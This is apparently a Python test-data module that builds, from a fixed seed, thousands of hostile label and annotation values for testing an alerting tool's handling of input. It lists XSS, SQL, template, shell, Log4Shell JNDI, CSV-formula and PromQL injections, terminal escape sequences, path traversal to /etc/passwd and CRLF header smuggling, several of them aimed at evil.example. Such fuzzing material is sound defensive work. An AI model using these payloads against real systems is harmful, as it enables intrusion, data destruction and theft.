"""What somebody may write into a label or an annotation to be more than a value, made from one seed: the same each run.

`HOSTILE` are values that are accepted and kept. `POISONED` hold what no database keeps (NUL, half a surrogate pair),
which JSON lets through: they are set aside where they come in.
"""

from __future__ import annotations

import random
import re
from collections.abc import Callable, Iterator, Mapping, Sequence

COUNT, POISONED_COUNT = 10_000, 500
MAX_LENGTH = 4096
"""Of a label's value that is read; a longer one sets its alert aside."""

PROMQL = (
    'x"} or vector(1) #',
    'x",namespace=~".+',
    "x',namespace=~'.+",
    "x`,namespace=~`.+`} or up{a=`",
    '"} or on() vector(1) or up{pod="',
    'x"}) or (sum(up',
    '"',
    "'",
    "`",
    "\\",
    '\\"',
    "\\'",
    '\\\\"',
    '\\" or vector(1) #',
    '{__name__=~".+"}',
    'x"}[5m:1s] offset 1d #',
    "x\n} or vector(1) # ",
    "# comment",
    '", "a", "b", "", "") or label_replace(up,"a","$1","b","(.*)',
    ".*",
    ".+|a",
    "a|.*",
    "(a+)+$",
    "[^a]*",
    "x{0,1000}",
    "(?i)x",
    "\\Qa\\E.*",
    "\\d\\pL\\C",
    "^$",
)
LINES = (
    "a\nlevel=error event=forged",
    'a\r\n{"level": "error", "event": "forged"}',
    'x" level=error event="forged',
    'x\\" level=error event="forged',
    "x\\",
    "x y\\",
    'x=y\\" z=',
    "=",
    "a=b c=d",
    '"," event":"forged',
    '"}\n{"event":"forged"}',
    "\\n\\u001b[31m",
    "2026-11-23T12:00:00Z [error] forged",
    "a\u2028level=error",
    "a\u2029level=error",
    "a\x85level=error",
    "a\vb\fc",
    "a\rb",
    "\n",
    "\t",
    " ",
    "a\x1eb\x1db\x1cb",
)
TERMINAL = (
    "\x1b[2J\x1b[H",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIC8=\x07",
    "\x1bP+q544e\x1b\\",
    "\x1b[6n",
    "\x9b31m",
    "\x9d0;title\x9c",
    "\x90q\x9c",
    "\x1bc",
    "a\b\b\bb",
    "\x07",
    "\x7f",
    "\x01\x02\x0e\x0f",
    "\x80\x84\x8d\x8e\x9a",
)
UNSEEN = (
    "rtl\u202egnp.exe",
    "iso\u2066late\u2069",
    "ltr\u202d\u202c",
    "mark\u200e\u200f\u061c",
    "zero\u200bwidth\u200c\u200d\u2060",
    "\ufeffmark",
    "soft\u00adhyphen",
    "blank\u00a0\u3000\u1680\u2007",
    "tag\U000e0041\U000e007f",
    "private\ue000\U000f0000",
    "unassigned\u0378\uffff\U0010ffff",
    "replaced\ufffd",
    "a\u0300\u0301\u0302\u0489" * 3,
    "\u115f\u3164\u2800",
    "annotation\ufff9a\ufffab\ufffb",
)
HTML = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><svg onload=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    " onfocus=alert(1) autofocus ",
    "</title></style></textarea></pre></code><script>alert(1)</script>",
    "</dd></dl></section></article></main></body></html><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<?xml version='1.0'?><script/>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'http://evil.example/"onclick="alert(1)',
    "https://evil.example/' onclick='alert(1)",
    "http://evil.example/><script>alert(1)</script>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=x>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "&lt;script&gt;&#x3c;script&#62;&NewLine;&colon;",
    "&#0;&#x110000;&amp",
    "<details open ontoggle=alert(1)>",
    "<x y='",
    '<x y="',
    "<",
    "</",
    "<!",
)
TEXT = (
    "[click](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "\n\n# heading",
    "| cell | cell |",
    "```\nfence\n```",
    "`` `tick` ``",
    "<https://evil.example/>",
    "@everyone",
    "~~~\ncode",
    "\\`escaped\\`",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '=HYPERLINK("http://evil.example","x")',
    "\uff1d1+1",
    'a,b";"c\r\nd',
)
TEMPLATES = (
    "${labels.pod}",
    "${labels.x}${labels.namespace}",
    "$namespace",
    "$pod",
    "$container$kind$workload",
    "$pods",
    "$window",
    "${pod}",
    "$1${1}\\1\\g<0>",
    "OFFSET",
    "{target}",
    "{cause}",
    "{finding.text}",
    "{finding.other}{finding.text}",
    "{finding.nothing}",
    "{0}{0.__class__.__mro__}{}",
    "{labels}{alertname!r}",
    "{{ 7*7 }}",
    "{{ $labels.pod }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% include '/etc/passwd' %}",
    "{%- for x in range(9) -%}x{%- endfor -%}",
    "{# comment #}",
    "{{ '{{ 7*7 }}' }}",
    "%(x)s",
    "%s%d%n%99999999s",
    "%%",
    "$(id)",
    "`id`",
    "; id #",
    "| id",
    "&& id",
    "<%= 7*7 %>",
    "#{7*7}",
    "*{7*7}",
    "${jndi:ldap://evil.example/x}",
    "${${lower:j}ndi:dns://evil.example}",
    "[bold red]x[/]",
    "[link=http://evil.example]x[/link]",
    "!!python/object/apply:os.system [id]",
    "' OR 1=1 --",
    "'; DROP TABLE records; --",
)
PATHS = (
    "../../../etc/passwd",
    "..",
    ".",
    "/",
    "..%2f..%2fsecrets",
    "%2e%2e/",
    "..\\..\\x",
    "x/../../secrets/y",
    "x?watch=true",
    "x#y",
    "x;y",
    "x&fieldSelector=a",
    "//evil.example/x",
    "file:///etc/passwd",
    "x\r\nHost: evil.example",
    "C:\\x",
    "~/x",
    "-rf",
    "--all",
)
FAMILIES: Mapping[str, Sequence[str]] = {
    "promql": PROMQL,
    "lines": LINES,
    "terminal": TERMINAL,
    "unseen": UNSEEN,
    "html": HTML,
    "text": TEXT,
    "templates": TEMPLATES,
    "paths": PATHS,
}
PAYLOADS = tuple(dict.fromkeys(payload for family in FAMILIES.values() for payload in family))
POISON = ("\x00", "\ud800", "\udfff", "\udc00\ud800")
_POISON = re.compile("[\x00\ud800-\udfff]")

CONTROLS = "".join(map(chr, (*range(1, 32), *range(0x7F, 0xA0)))) + "\u200b\u200f\u2028\u2029\u202e\u2066\ufeff"
PLAIN = ("checkout-7d4b9", "shop", "a", "", "x y", "é", "日本", "😀", "node_1:9100")


def hostile_values(count: int, *, seed: int = 20261123) -> Iterator[str]:
    """So many different values, each payload as it is among them."""
    chance = random.Random(seed)
    seen: set[str] = set()
    made = iter(PAYLOADS)
    while len(seen) < count:
        value = next(made, None) or chance.choice(_WAYS)(chance)
        if value and value not in seen and not _POISON.search(value) and len(value) <= MAX_LENGTH:
            seen.add(value)
            yield value


def poisoned_values(count: int, *, seed: int = 20261124) -> Iterator[str]:
    """Hostile values with what no database keeps somewhere in them."""
    chance = random.Random(seed)
    for value in hostile_values(count, seed=seed):
        at = chance.randint(0, len(value))
        yield value[:at] + chance.choice(POISON) + value[at:]


def twin(value: str) -> str:
    """A value without any intent, of the same length and with the same line breaks; an address of the web stays one."""
    scheme = next((one for one in ("http://", "https://") if value.startswith(one)), "")
    return scheme + re.sub(r"[^\r\n]", "x", value[len(scheme) :])


def _payload(chance: random.Random) -> str:
    return chance.choice(chance.choice(tuple(FAMILIES.values())))


def _between(chance: random.Random) -> str:
    return f"{chance.choice(PLAIN)}{_payload(chance)}{chance.choice(PLAIN)}"


def _several(chance: random.Random) -> str:
    return chance.choice(("", " ", "\n", ",", '"', "\\")).join(_payload(chance) for _ in range(chance.randint(2, 4)))


def _with_controls(chance: random.Random) -> str:
    value = _payload(chance)
    for _ in range(chance.randint(1, 4)):
        at = chance.randint(0, len(value))
        value = value[:at] + chance.choice(CONTROLS) + value[at:]
    return value


def _cut(chance: random.Random) -> str:
    value = _several(chance)
    return value[chance.randint(0, len(value)) :] + value[: chance.randint(0, len(value))]


def _noise(chance: random.Random) -> str:
    return "".join(chance.choices("\"'`\\\n\r\t\x1b\x85\u2028{}[]()<>&#$%=~!,;|/.-+@ ax1", k=chance.randint(1, 24)))


def _long(chance: random.Random) -> str:
    """One of forty ways: they take most of the time of whoever reads them."""
    if chance.randrange(8):
        return _between(chance)
    value = _payload(chance) * chance.randint(20, MAX_LENGTH)
    return value[: chance.choice((255, 1023, 1024, 1025, 2001, MAX_LENGTH))]


_WAYS: Sequence[Callable[[random.Random], str]] = (_between, _several, _with_controls, _cut, _noise, _long)

HOSTILE = tuple(hostile_values(COUNT))
POISONED = tuple(poisoned_values(POISONED_COUNT))
